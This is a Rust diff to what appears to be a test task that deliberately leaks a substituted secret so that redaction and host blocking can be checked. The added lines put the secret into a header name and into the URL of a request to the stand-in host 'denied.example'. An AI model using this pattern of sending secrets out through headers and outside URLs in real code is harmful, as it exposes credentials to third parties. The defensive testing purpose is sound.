@@ -62,13 +62,14 @@ fn visit(urls: Vec<String>) -> Vec<String> {
     urls.into_iter().map(try_request).collect()
 }
 
-/// Sends a secret in the header `x-ask`, reads it from an answer in reverse, and leaves it everywhere: also in the header `x-again` of
-/// another request. It fails with it, if `fails`.
+/// Sends a secret in the header `x-ask`, reads it from an answer in reverse, and leaves it everywhere: also in headers of another
+/// request, in the value of `x-again` and in a name, and in the address of one that is denied. It fails with it, if `fails`.
 #[task(provides = "left")]
 fn leak(url: String, fails: bool) -> Result<serde_json::Value, Failure> {
     let response = Request::get(url.clone()).header("x-ask", "{{secret:KEY}}").send()?;
     let value: String = response.text()?.chars().rev().collect();
-    Request::get(url).header("x-again", value.as_str()).send()?;
+    Request::get(url).header("x-again", value.as_str()).header(format!("x-{value}"), "1").send()?;
+    try_request(format!("http://denied.example/{value}"));
     log::info!("logged {value}");
     println!("printed {value}");
     eprintln!("complained {value}");
